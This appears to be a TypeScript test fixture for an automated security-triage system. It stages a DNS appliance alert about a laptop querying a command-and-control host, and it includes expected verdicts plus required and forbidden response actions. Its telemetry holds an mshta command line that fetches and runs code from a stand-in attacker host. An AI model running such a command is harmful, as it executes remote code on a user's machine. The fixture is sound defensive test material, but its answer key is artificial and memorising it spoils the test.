// The appliance reports, the client is the victim, and only the parent domain is known.
import { alert, connected } from '../../shorthand.ts'
import type { TellSituation } from '../../situation.ts'

export const dnsApplianceReports: TellSituation = (setting) => {
  const laptop = setting.laptopOf('clara.hultman')
  const at = setting.ago({ minutes: 27 })
  const host = 'x9-4417.nordcloud-metrics.net'

  return {
    id: 'dns-appliance-reports',
    group: 'resolution',
    title: 'A name server reports a host under a command domain',
    alerts: [
      alert(
        setting,
        at,
        'firewall',
        'DNS threat',
        `CEF:0|Infoblox|NIOS|9.0.4|RPZ-QNAME|PASSTHRU|7|rt=${at} dvchost=dns-02 src=${laptop.ip} spt=51812 dst=10.20.0.4 dpt=53 destinationDnsDomain=${host} app=DNS act=PASSTHRU msg="rpz QNAME PASSTHRU rewrite ${host} [A] via ${host}.watch.rpz"`,
      ),
    ],
    facts: {
      telemetry: [
        connected(laptop, at + 800, '193.142.147.6', {
          RemoteUrl: host,
          InitiatingProcessFileName: 'mshta.exe',
          InitiatingProcessCommandLine: `mshta.exe https://${host}/i`,
        }),
      ],
    },
    expected: {
      verdict: 'malicious',
      severities: ['high', 'critical'],
      proposals: [{ action: 'isolate-machine', target: laptop.host }],
      forbidden: [
        { action: 'isolate-machine', target: 'dns-02' },
        { action: 'block-indicator', target: '10.20.0.4' },
      ],
    },
    because:
      'Hosts under this command domain are made for each victim. The query was let pass and the client connected. The appliance only reports.',
  }
}
